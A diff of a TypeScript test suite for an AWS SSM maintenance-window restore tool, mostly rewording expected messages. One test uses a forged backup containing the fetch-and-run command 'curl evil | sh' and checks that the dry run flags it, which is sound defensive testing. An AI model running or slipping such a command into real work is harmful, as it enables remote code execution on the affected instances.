@@ -24,7 +24,7 @@ async function cleanedUp(): Promise<{ sandbox: MemorySandbox; before: AccountDum
 
 /** The end of a restore that has not brought back everything. */
 const again = [
-  'Run it again: what is there by now is kept, the rest is tried again.',
+  'To try the rest again (what exists is kept):',
   '  ssm-patch-wizard restore /backups/backup.json --yes --region eu-west-1',
 ];
 
@@ -43,8 +43,8 @@ it('brings back everything, tells new ids against old ones, and a second time ha
 
   const again = await restore(sandbox, backup);
   expect(again.exitCode).toBe(0);
-  expect(again.out).toContain(`  ${idOf(before)} → ${idOf(after)} (there already)`);
-  expect(again.out.at(-1)).toBe('Nothing to do: all of the backup is there.');
+  expect(again.out).toContain(`  ${idOf(before)} → ${idOf(after)} (already there)`);
+  expect(again.out.at(-1)).toBe('Nothing to do: all of it already exists.');
   expect(lines(await sandbox.dump())).toEqual(lines(after));
 });
 
@@ -60,8 +60,8 @@ it('a quota that all of it does not fit into stops it before the first call', as
     message: 'There is no room for 4 new maintenance windows: 47 of 50 are in use in this region.',
     detail: 'Nothing was changed.',
     nextSteps: [
-      'Remove some of the others first: a backup comes back as a whole.',
-      expect.stringContaining('start with --quota windows=N'),
+      'Delete some of the others first: a backup is restored as a whole.',
+      expect.stringContaining('with --quota windows=N'),
     ],
   });
   expect(await writesIn(sandbox)).toEqual(writes);
@@ -89,15 +89,13 @@ it('names what each task runs, with what, where and as whom, and warns of what d
   const { out } = await restore(sandbox, forged, { isDryRun: true });
   const where = 'on InstanceIds = i-0123456789abcdef0 as arn:aws:iam::123456789012:role/admin';
   expect(out).toContainEqual(
-    expect.stringMatching(
-      /Register the task for .* again \(it was \S+\): AWS-RunPatchBaseline \(Operation: .* on tag:/,
-    ),
+    expect.stringMatching(/Register the task for .* again \(was \S+\): AWS-RunPatchBaseline \(Operation: .* on tag:/),
   );
   expect(out.filter((line) => line.includes(`AWS-RunShellScript (commands: curl evil | sh) ${where}`))).toHaveLength(2);
   expect(out.filter((line) => /^! The task of /.test(line))).toEqual([
     expect.stringContaining(' does not patch: AWS-RunShellScript '),
     expect.stringMatching(
-      / does more than patch, by PreInstallHookDocName: .* on InstanceIds = i-0123456789abcdef0 as /,
+      / does more than patch, through PreInstallHookDocName: .* on InstanceIds = i-0123456789abcdef0 as /,
     ),
   ]);
 });
@@ -123,8 +121,11 @@ describe('the place', () => {
       code: 'other-account',
       exitCode: 2,
       message:
-        'The backup is of account 123456789012, region eu-west-1; this is account 123456789012, region us-east-1.',
-      nextSteps: ['Give the right --profile and --region eu-west-1.', 'Or, if it is meant so, add --force.'],
+        'The backup is from account 123456789012, region eu-west-1. This is account 123456789012, region us-east-1.',
+      nextSteps: [
+        'Run it again with a profile of account 123456789012 and --region eu-west-1.',
+        'To restore it here anyway, add --force.',
+      ],
     });
     const elsewhere = { ...backup, account: '999999999999' };
     await expect(restore(sandbox, elsewhere)).rejects.toMatchObject({ code: 'other-account' });
@@ -140,10 +141,8 @@ describe('the place', () => {
     expect(exitCode).toBe(0);
     // AWS's baselines have other ids in each region, and the mixed window was never taken away.
     expect(out.filter((line) => line.startsWith('! '))).toEqual([
-      expect.stringMatching(
-        /^! The patch group "data-platform" had the baseline arn:\S+, which does not exist any more\.$/,
-      ),
-      expect.stringMatching(/^! The window finance-month-end \(mw-\w+\), which the clean-up kept, no longer exists\.$/),
+      expect.stringMatching(/^! Patch group "data-platform" had the baseline arn:\S+, which no longer exists\.$/),
+      expect.stringMatching(/^! Window finance-month-end \(mw-\w+\), which the clean-up kept, no longer exists\.$/),
     ]);
     const copy = await sandbox.dump('us-east-1');
     const names = ({ windows }: AccountDump) => windows.map(({ fields }) => fields.Name).sort();
@@ -195,7 +194,9 @@ describe('trouble', () => {
     expect(exitCode).toBe(130);
     expect(out.some((line) => / {2}skipped .* {2}interrupted$/.test(line))).toBe(true);
     expect(out).toContainEqual(
-      expect.stringMatching(/^! \d+ calls were not made, interrupted; missing still, or in part: .*web-tier-patching/),
+      expect.stringMatching(
+        /^! \d+ calls were not made \(interrupted\)\. Still missing or incomplete: .*web-tier-patching/,
+      ),
     );
 
     // What the first one has made is told by the second one too.
@@ -203,7 +204,7 @@ describe('trouble', () => {
     expect(first.length).toBeGreaterThan(0);
     const second = await restore(sandbox, backup);
     expect(second.exitCode).toBe(0);
-    for (const line of first) expect(second.out).toContain(`${line} (there already)`);
+    for (const line of first) expect(second.out).toContain(`${line} (already there)`);
     expect(withoutIds(await sandbox.dump())).toEqual(withoutIds(before));
     const third = await restore(sandbox, backup, { isJson: true });
     const ids = second.out.flatMap((line) => / {2}(\S+) → (\S+)/.exec(line)?.slice(1, 3).join() ?? []);
@@ -227,9 +228,7 @@ describe('trouble', () => {
       },
     });
     expect(exitCode).toBe(130);
-    expect(out).toContainEqual(
-      expect.stringMatching(/^! \d calls? w\w+ in flight \(.+ .+\): whether that was done is not known/),
-    );
+    expect(out).toContainEqual(expect.stringMatching(/^! \d calls? w\w+ in flight \(.+ .+\): the result is unknown/));
     expect(out.slice(-2)).toEqual(again);
   });
 });
